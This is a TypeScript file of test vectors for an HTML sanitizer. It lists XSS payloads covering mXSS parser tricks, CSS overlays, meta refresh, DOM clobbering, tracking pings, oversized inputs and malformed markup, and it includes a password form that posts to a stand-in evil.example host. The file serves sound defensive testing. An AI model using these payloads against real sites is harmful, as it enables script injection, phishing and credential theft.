/**
 * More hand-written vectors: known sanitizer bypasses (mXSS through foreign content and raw-text
 * parsing), CSS attacks, document-level elements, DOM clobbering, tracking, sizes and tag soup.
 */
import type { Vector } from './vector-kit'
import { ALERT, HANDLER, JS, SANDBOX } from './vector-kit'

const OVERLAY = /position|fixed|z-index|<style|style=/i

/** 10,000 nested elements, the depth the issue asks for; the text inside must survive. */
const deep = (open: string, close: string) =>
  `${open.repeat(10_000)}<img src=x onerror=alert(1)>深处的文字${close.repeat(10_000)}`

/** About 5 MB of ordinary paragraphs with a payload every few hundred bytes. */
const huge = () =>
  '<p>段落 <b>粗体</b> <img src="https://media.example/a.png" onerror="alert(1)"><a href="javascript:alert(2)">链接</a></p>\n'.repeat(
    52_000,
  )

// prettier-ignore
export const MORE: Vector[] = [
  // Scripts in disguise
  { category: 'script', name: 'script in an svg', html: '<svg><script>alert(1)</script></svg><p>t</p>', forbidden: [/<script/i, ALERT], expect: ['<p>t</p>'] },
  { category: 'script', name: 'script with a type that is not JavaScript', html: '<script type="text/template"><img src=x onerror=alert(1)></script>', forbidden: [/<script/i, HANDLER] },
  { category: 'script', name: 'escaped script text stays text', html: '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', forbidden: [/<script/i], expect: ['&lt;script&gt;'] },
  // mXSS and parser differentials
  { category: 'mxss', name: 'math mtext mglyph svg style', html: '<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">', forbidden: [HANDLER, /<style/i, /<math/i] },
  { category: 'mxss', name: 'svg foreignObject html', html: '<svg><foreignObject><p title="</foreignObject><img src=x onerror=alert(1)>">x</p></foreignObject></svg>', forbidden: [HANDLER, /foreignObject/i] },
  { category: 'mxss', name: 'svg title raw text', html: '<svg><title><img src=x onerror=alert(1)></title></svg>', forbidden: [HANDLER, /<svg/i] },
  { category: 'mxss', name: 'noembed and noframes', html: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes><img title="</noframes><img src onerror=alert(2)>"></noframes>', forbidden: [HANDLER] },
  { category: 'mxss', name: 'template inside a table', html: '<table><template><td><img src=x onerror=alert(1)></td></template></table>', forbidden: [HANDLER, /<template/i] },
  { category: 'mxss', name: 'textarea in svg', html: '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>', forbidden: [HANDLER] },
  { category: 'mxss', name: 'nested forms and a select', html: '<form><form><select><img src=x onerror=alert(1)></select></form></form>', forbidden: [HANDLER, /<form/i, /<select/i] },
  { category: 'mxss', name: 'plaintext swallowing the rest', html: '<p>前</p><plaintext><img src=x onerror=alert(1)>', forbidden: [HANDLER, /plaintext/i], expect: ['前'] },
  { category: 'mxss', name: 'style in a noscript in a p', html: '<p><noscript><style></noscript><img src=x onerror=alert(1)></style></noscript></p>', forbidden: [HANDLER, /<noscript/i, /<style/i] },
  { category: 'mxss', name: 'attribute that closes a comment', html: '<p title="--><img src=x onerror=alert(1)>">t</p>', forbidden: [/<img/i, HANDLER], expect: ['t</p>'] },
  // CSS
  { category: 'style', name: 'style @import', html: '<style>@import url("https://evil.example/x.css");</style><p>t</p>', forbidden: [/<style/i, /evil/, /@import/], expect: ['<p>t</p>'] },
  { category: 'style', name: 'style expression()', html: '<p style="width: expression(alert(1))">t</p>', forbidden: [/style=/i, /expression/i, ALERT], expect: ['t</p>'] },
  { category: 'style', name: 'style url(javascript:) in a background', html: '<div style="background-image: url(&quot;javascript:alert(1)&quot;)">t</div>', forbidden: [/style=/i, JS] },
  { category: 'style', name: 'position fixed overlay', html: '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">假的登录框</div>', forbidden: [OVERLAY], expect: ['假的登录框'] },
  { category: 'style', name: 'overlay through a style element', html: '<style>body{display:none} .masthead{visibility:hidden}</style><p>t</p>', forbidden: [/<style/i, /display|visibility/], expect: ['<p>t</p>'] },
  { category: 'style', name: 'escaped CSS in a style attribute', html: '<a href="https://example.com/" style="posi\\tion:\\66ixed;top:0;left:0;width:100%;height:100%">全屏链接</a>', forbidden: [OVERLAY], expect: ['全屏链接'] },
  { category: 'style', name: 'class that targets the app’s own CSS', html: '<div class="masthead skip-link app">t</div>', forbidden: [/class=/], expect: ['t</div>'] },
  // Document-level elements
  { category: 'document', name: 'base target', html: '<base target="_top" href="javascript:/"><a href="/x">x</a>', forbidden: [/<base/i, /_top/, JS] },
  { category: 'document', name: 'meta refresh to a site', html: '<meta http-equiv="refresh" content="0; url=https://evil.example/">', forbidden: [/<meta/i, /evil/] },
  { category: 'document', name: 'meta setting a cookie or a CSP', html: '<meta http-equiv="set-cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="script-src *">', forbidden: [/<meta/i, /cookie|script-src/i] },
  { category: 'document', name: 'link preload and prefetch', html: '<link rel="prefetch" href="https://evil.example/p"><link rel="import" href="https://evil.example/i.html"><p>t</p>', forbidden: [/<link/i, /evil/] },
  { category: 'document', name: 'form that posts the page', html: '<form method="post" action="https://evil.example/steal"><input type="password" name="pw"><button>登录</button></form>', forbidden: [/<form/i, /<input/i, /evil/, /password/] },
  { category: 'document', name: 'object with a flash movie', html: '<object type="application/x-shockwave-flash" data="https://evil.example/x.swf"><param name="allowScriptAccess" value="always"></object>', forbidden: [/<object/i, /evil/, /allowScriptAccess/] },
  { category: 'document', name: 'embed of an svg', html: '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=alert(1)>">', forbidden: [/<embed/i, /data:/, ALERT] },
  { category: 'document', name: 'portal and dialog', html: '<portal src="https://evil.example/"></portal><dialog open>假对话框</dialog>', forbidden: [/<portal/i, /<dialog/i, /evil/] },
  // Iframes
  { category: 'iframe', name: 'iframe srcdoc alone', html: '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe><p>t</p>', forbidden: [/<iframe/i, /srcdoc/], expect: ['<p>t</p>'] },
  { category: 'iframe', name: 'iframe sandbox loosened by the source', html: '<iframe src="https://player.bilibili.com/player.html?aid=1" sandbox="allow-top-navigation allow-modals allow-forms"></iframe>', forbidden: [/allow-top-navigation|allow-modals|allow-forms/], expect: [SANDBOX] },
  { category: 'iframe', name: 'iframe over http from an allowed host', html: '<iframe src="http://www.youtube.com/embed/abc"></iframe>', forbidden: [/http:\/\//], expect: ['src="https://www.youtube.com/embed/abc"'] },
  { category: 'iframe', name: 'iframe with a port on an allowed host', html: '<iframe src="https://player.vimeo.com:8443/video/1"></iframe>', forbidden: [/<iframe/i, /8443/] },
  { category: 'iframe', name: 'frameset and frame', html: '<frameset><frame src="https://evil.example/"></frameset><p>t</p>', forbidden: [/<frame/i, /evil/] },
  // DOM clobbering
  { category: 'clobbering', name: 'form named location', html: '<form name="location"><img name="href" src="https://media.example/a.png"></form>', forbidden: [/\sname=/, /<form/i] },
  { category: 'clobbering', name: 'anchors clobbering document.cookie', html: '<a id="cookie" name="cookie" href="https://example.com/">a</a><a id="cookie" href="https://example.com/b">b</a>', forbidden: [/\sid=/, /\sname=/] },
  { category: 'clobbering', name: 'img named document and defaultView', html: '<img name="document" src="https://media.example/a.png"><img name="defaultView" src="https://media.example/b.png"><iframe name="top" src="https://www.youtube.com/embed/x"></iframe>', forbidden: [/\sname=/] },
  // Two headings: three would bring the table of contents, which changes the page's columns on purpose.
  { category: 'clobbering', name: 'heading ids not of the anchor shape', html: '<h2 id="location">甲</h2><h3 id="H-cookie">丙</h3><p id="h-x">丁</p>', forbidden: [/\sid="(location|H-cookie|h-x)"/, /<p id/], expect: ['甲', '丁'] },
  { category: 'clobbering', name: 'id of an app element', html: '<div id="root">假根</div><p id="main">t</p>', forbidden: [/\sid=/], expect: ['假根'] },
  // Tracking and leaks
  { category: 'tracking', name: 'a ping on many targets', html: '<a href="https://example.com/" ping="https://tracker.example/a https://tracker.example/b">x</a>', forbidden: [/ping/, /tracker/] },
  { category: 'tracking', name: 'svg use with an external href', html: '<svg><use href="https://evil.example/sprite.svg#x"></use><use xlink:href="https://evil.example/s.svg#y"></use></svg><p>t</p>', forbidden: [/<use/i, /evil/], expect: ['<p>t</p>'] },
  { category: 'tracking', name: 'animate href to javascript:', html: '<svg><a href="#"><animate attributeName="href" values="javascript:alert(1)"/><text y="20">点我</text></a></svg>', forbidden: [/<animate/i, JS, ALERT] },
  { category: 'tracking', name: 'set onbegin', html: '<svg><set attributeName="x" onbegin="alert(1)" to="1"/></svg>', forbidden: [/<set/i, HANDLER, ALERT] },
  { category: 'tracking', name: 'image with a referrer leak and an http-equiv', html: '<img src="https://media.example/p.gif" referrerpolicy="unsafe-url" crossorigin="use-credentials">', forbidden: [/unsafe-url/, /crossorigin/], expect: ['referrerpolicy="no-referrer"'] },
  // Sizes
  { category: 'size', name: '10,000 nested divs', html: deep('<div>', '</div>'), forbidden: [HANDLER, ALERT], expect: ['深处的文字'], heavy: true },
  { category: 'size', name: '10,000 nested inline elements', html: deep('<b><i>', '</i></b>'), forbidden: [HANDLER, ALERT], expect: ['深处的文字'], heavy: true },
  { category: 'size', name: '5 MB of paragraphs with payloads', html: huge(), forbidden: [HANDLER, ALERT, JS], expect: ['<p>段落 <b>粗体</b>'], heavy: true },
  // Tag soup
  { category: 'malformed', name: 'unclosed tags everywhere', html: '<div><p><b><i><a href="https://example.com/">未闭合<img src=x onerror=alert(1)', forbidden: [HANDLER, ALERT], expect: ['未闭合'] },
  { category: 'malformed', name: 'broken entities', html: '<p>&am; &#xZZ; &#99999999; &lt &gt &ampx &#0; &#x110000;</p><a href="&#x6A&#x61vascript:alert(1)">x</a>', forbidden: [/<\/?[a-z]+[^>]*on/i, /vascript/i, ALERT] },
  { category: 'malformed', name: 'attributes without spaces or quotes', html: '<img/src="https://media.example/a.png"/onerror="alert(1)"/alt="x"><a/href="javascript:alert(2)">y</a>', forbidden: [HANDLER, ALERT, JS] },
  { category: 'malformed', name: 'end tag with attributes', html: '<p>t</p onmouseover="alert(1)"><b>b</b foo="<img src=x onerror=alert(2)>">', forbidden: [HANDLER, ALERT] },
  { category: 'malformed', name: 'null bytes in a tag and an attribute', html: '<im\u0000g src=x o\u0000nerror=alert(1)><a hr\u0000ef="javascript:alert(2)">x</a>', forbidden: [/onerror|o\uFFFDnerror/i, JS] },
  { category: 'malformed', name: 'duplicate attributes', html: '<a href="https://example.com/" href="javascript:alert(1)">x</a><img src="https://media.example/a.png" src="javascript:alert(2)">', forbidden: [JS, ALERT], expect: ['href="https://example.com/"'] },
]
